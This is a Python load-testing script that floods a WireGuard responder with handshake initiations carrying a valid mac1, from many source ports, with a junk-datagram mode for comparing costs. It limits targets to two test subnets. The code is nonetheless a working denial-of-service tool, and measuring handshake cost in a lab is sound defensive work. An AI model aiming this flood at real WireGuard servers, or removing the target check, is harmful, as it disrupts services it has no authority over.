#!/usr/bin/env python3
"""Floods a WireGuard port with handshake initiations that carry a valid mac1, from many source ports.

mac1 needs only the target's public key (which is not secret), so anyone can make the target spend work
on these: it is the cheapest attack on a WireGuard responder. Everything else in the messages is random
(sender index, ephemeral key, encrypted static and timestamp), so none of them completes a handshake.

Usage: handshake_flood.py HOST PORT PUBLIC_KEY_BASE64 --count N --seconds S [--rate R] [--ports P] [--junk]
Stops after N datagrams or S seconds, whichever comes first; R per second at most (0 = as fast as it can).
--junk sends random 148-byte datagrams instead (no valid mac1): the same load on the socket and the
flooder's own CPU, none on the handshake path, so the two together tell what the handshakes cost.
Only the test underlays (10.77.0.0/16, fd77::/64) are allowed targets, so a typo can never aim it elsewhere.
Prints one line: "sent N initiations in S s (R/s) from P ports, E send errors".
"""

import argparse
import base64
import hashlib
import ipaddress
import os
import socket
import sys
import time

ALLOWED = [ipaddress.ip_network("10.77.0.0/16"), ipaddress.ip_network("fd77::/64")]
INITIATION_LEN = 148
MAC1_AT = 116
# Distinct messages sent in turn; enough that no two in a row are alike.
VARIANTS = 512


def initiations(public_key: bytes) -> list[bytes]:
    """Initiations with random bodies and a valid mac1 (mac2 zero), as WireGuard's whitepaper 5.4.4 defines."""
    mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest()
    out = []
    for _ in range(VARIANTS):
        body = bytes([1, 0, 0, 0]) + os.urandom(MAC1_AT - 4)
        mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
        out.append(body + mac1 + bytes(16))
    return out


def junk() -> list[bytes]:
    """Random datagrams of an initiation's size: dropped by any WireGuard at its first check."""
    return [os.urandom(INITIATION_LEN) for _ in range(VARIANTS)]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("public_key", help="the target's WireGuard public key (base64)")
    parser.add_argument("--count", type=int, required=True, help="most datagrams to send")
    parser.add_argument("--seconds", type=float, required=True, help="longest time to send for")
    parser.add_argument("--rate", type=float, default=0, help="datagrams per second at most (0 = no limit)")
    parser.add_argument("--ports", type=int, default=200, help="source ports to spread over (default 200)")
    parser.add_argument("--junk", action="store_true", help="random datagrams instead of valid-mac1 initiations")
    opts = parser.parse_args()
    target = ipaddress.ip_address(opts.host)
    if not any(target in net for net in ALLOWED):
        sys.exit(f"handshake_flood.py: refusing target {opts.host}: only 10.77.0.0/16 and fd77::/64 are test addresses")
    key = base64.b64decode(opts.public_key)
    if len(key) != 32:
        sys.exit("handshake_flood.py: the public key must be 32 bytes of base64")
    family = socket.AF_INET6 if target.version == 6 else socket.AF_INET
    sockets = []
    for _ in range(max(1, opts.ports)):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setblocking(False)
        s.connect((opts.host, opts.port))
        sockets.append(s)
    messages = junk() if opts.junk else initiations(key)
    sent = errors = 0
    start = time.monotonic()
    deadline = start + opts.seconds
    chunk = 256
    while sent + errors < opts.count:
        now = time.monotonic()
        if now >= deadline:
            break
        if opts.rate > 0:
            due = (now - start) * opts.rate
            if sent + errors >= due:
                time.sleep(min(0.001, deadline - now))
                continue
        for i in range(min(chunk, opts.count - sent - errors)):
            n = sent + errors
            try:
                sockets[n % len(sockets)].send(messages[n % VARIANTS])
                sent += 1
            except (BlockingIOError, ConnectionRefusedError):
                errors += 1
    elapsed = max(time.monotonic() - start, 1e-6)
    print(f"sent {sent} {'junk datagrams' if opts.junk else 'initiations'} in {elapsed:.1f} s ({sent / elapsed:.0f}/s) from {len(sockets)} ports, "
          f"{errors} send errors")
    return 0


if __name__ == "__main__":
    sys.exit(main())
